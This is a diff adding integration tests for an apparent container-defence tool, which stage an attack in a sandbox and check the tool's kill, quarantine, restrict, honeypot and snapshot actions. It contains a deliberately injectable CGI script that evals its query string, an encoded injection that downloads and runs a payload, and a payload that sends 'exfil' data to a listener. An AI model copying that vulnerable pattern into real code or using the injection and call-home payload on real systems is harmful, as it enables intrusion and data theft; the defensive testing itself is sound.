@@ -16,6 +16,7 @@ teardown() {
   [ -n "$LISTENER" ] && kill "$LISTENER" 2>/dev/null
   ip link del act-v0 2>/dev/null || true
   [ -n "${OVL:-}" ] && umount "$OVL" 2>/dev/null
+  [ -n "${WEB:-}" ] && rm -rf "$WEB"
   common_teardown
 }
 
@@ -415,4 +416,137 @@ for i in range(400):
   [ ! -e ../etc/x ] && [ ! -e /etc/x ]
   run w snapshot show "$TEST_TMP/missing.tar"
   [ "$status" -ne 0 ]
+}
+
+# ---- the scripted attack (issue 6, "Tests that really run") ---------------
+# A web server with a command injection: busybox httpd serving a CGI shell
+# script (run by the host's dynamically linked dash, so the probes are in
+# it) that evals its query string. The attacker (the test, in the
+# container's network namespace) injects: download a payload from a second
+# loopback HTTP server, run it; the payload writes a marker and calls home
+# to the host through a veth pair, sending "exfil-<tag>".
+
+attack_setup() {
+  local id=$1
+  # the sandbox has a /tmp of its own: serve from a host directory it sees
+  WEB=$(mktemp -d /var/tmp/ward-act.XXXXXX)
+  chmod 755 "$WEB"
+  mkdir -p "$WEB/www/cgi-bin" "$WEB/payload"
+  cat > "$WEB/www/cgi-bin/ping" <<'CGI'
+#!/bin/sh
+echo "Content-Type: text/plain"
+echo
+host=$(echo "$QUERY_STRING" | sed 's/^host=//; s/%20/ /g; s/%3B/;/g')
+eval "echo pinging $host" 2>&1
+CGI
+  cat > "$WEB/payload/p.sh" <<PAYLOAD
+echo pwned > /tmp/pwned && echo wrote-marker
+$PY -c 'import socket, sys; s = socket.create_connection(("10.213.8.1", 18088), timeout=2); s.sendall(b"exfil-" + sys.argv[1].encode()); print("called-home")' "\$1" 2>&1 | tail -1
+PAYLOAD
+  chmod 755 "$WEB/www/cgi-bin/ping"
+  chmod 644 "$WEB/payload/p.sh"
+  chmod -R a+rX "$WEB"
+  start_sandbox "$id" "/bin/busybox httpd -f -p 127.0.0.1:18080 -h $WEB/www & /bin/busybox httpd -f -p 127.0.0.1:18081 -h $WEB/payload & wait"
+  ip link add act-v0 type veth peer name act-v1 netns "$PID"
+  ip addr add 10.213.8.1/30 dev act-v0
+  ip link set act-v0 up
+  nsenter -t "$PID" -n ip addr add 10.213.8.2/30 dev act-v1
+  nsenter -t "$PID" -n ip link set act-v1 up
+  : > "$TEST_TMP/home.log"
+  $PY -c 'import socket, sys
+s = socket.socket(); s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1); s.bind(("10.213.8.1", 18088)); s.listen(64)
+while True:
+    c, _ = s.accept(); c.settimeout(2)
+    try:
+        d = c.recv(256)
+    except OSError:
+        d = b""
+    open(sys.argv[1], "ab").write(d + b"\n"); c.close()' "$TEST_TMP/home.log" &
+  LISTENER=$!
+  for i in $(seq 100); do nsenter -t "$PID" -n /bin/busybox nc -w 1 127.0.0.1 18080 </dev/null >/dev/null 2>&1 && break; sleep 0.05; done
+}
+
+# attack TAG: the injected request; prints the server's answer
+attack() {
+  local q="host=127.0.0.1%3B/bin/busybox%20wget%20-q%20-O%20/tmp/p.sh%20http://127.0.0.1:18081/p.sh%3Bsh%20/tmp/p.sh%20$1"
+  nsenter -t "$PID" -n timeout 10 /bin/busybox wget -q -O - "http://127.0.0.1:18080/cgi-bin/ping?$q" 2>&1 || true
+}
+
+@test "act: attack, then kill: the attack ran and called home; the container is dead" {
+  attack_setup act-a1
+  run attack a1
+  echo "$output"
+  [[ "$output" == *wrote-marker* && "$output" == *called-home* ]]
+  grep -q exfil-a1 "$TEST_TMP/home.log"
+  run w action act-a1 kill
+  [ "$status" -eq 0 ]
+  [[ "$output" == *"killed 3 processes"* ]]
+  wait "$BG" || true
+  assert_clean act-a1
+}
+
+@test "act: attack under quarantine: frozen, the server does not answer; nonet, the payload cannot call home" {
+  attack_setup act-a2
+  run attack a2-before
+  [[ "$output" == *called-home* ]]
+  w action act-a2 quarantine --form freeze
+  run nsenter -t "$PID" -n timeout 3 /bin/busybox wget -q -O - "http://127.0.0.1:18080/cgi-bin/ping?host=x"
+  [ "$status" -ne 0 ]
+  w action act-a2 quarantine --form nonet
+  run w action act-a2 status
+  echo "$output" | jq -e '.form == "nonet"'
+  run attack a2-nonet
+  echo "$output"
+  [[ "$output" == *wrote-marker* ]]
+  [[ "$output" != *called-home* ]]
+  ! grep -q exfil-a2-nonet "$TEST_TMP/home.log"
+  w action act-a2 kill
+  wait "$BG" || true
+}
+
+@test "act: attack under restrict: the injected commands cannot exec" {
+  attack_setup act-a3
+  run attack a3-before
+  [[ "$output" == *called-home* ]]
+  w action act-a3 restrict
+  run attack a3
+  echo "$output"
+  # the CGI shell itself runs (the static server execs it), but nothing it
+  # tries to run does: not even the sed that decodes the query
+  [[ "$output" == *pinging* ]]
+  [[ "$output" != *wrote-marker* && "$output" != *called-home* ]]
+  ! grep -q exfil-a3 "$TEST_TMP/home.log"
+  w action act-a3 kill
+  wait "$BG" || true
+}
+
+@test "act: attack under honeypot: the call home reaches the sink, not the host" {
+  attack_setup act-a4
+  run attack a4-before
+  [[ "$output" == *called-home* ]]
+  grep -q exfil-a4-before "$TEST_TMP/home.log"
+  w action act-a4 honeypot
+  run attack a4
+  echo "$output"
+  [[ "$output" == *called-home* ]]
+  wait_for "$WARD_ROOT/act-a4/honeypot.log" exfil-a4
+  ! grep -q exfil-a4 "$TEST_TMP/home.log"
+  w action act-a4 kill
+  wait "$BG" || true
+}
+
+@test "act: attack, then snapshot: the server's processes, their hashes and its listening socket" {
+  attack_setup act-a5
+  run attack a5
+  [[ "$output" == *called-home* ]]
+  run w snapshot act-a5 -o "$TEST_TMP/a5.tar"
+  [ "$status" -eq 0 ]
+  tar -xOf "$TEST_TMP/a5.tar" manifest.json > "$TEST_TMP/a5.json"
+  jq -e '[.processes[] | select(.cmdline[0] == "/bin/busybox" and .cmdline[1] == "httpd")] | length == 2' "$TEST_TMP/a5.json"
+  want=$(sha256sum /bin/busybox | cut -d' ' -f1)
+  jq -e --arg h "$want" '[.executables[] | select(.sha256 == $h)] | length == 1' "$TEST_TMP/a5.json"
+  # the listening sockets of the server, as its namespace sees them (port 18080 = 0x46A0)
+  tar -xOf "$TEST_TMP/a5.tar" --wildcards 'net/*/tcp' | grep -q ':46A0 00000000:0000 0A'
+  w action act-a5 kill
+  wait "$BG" || true
 }
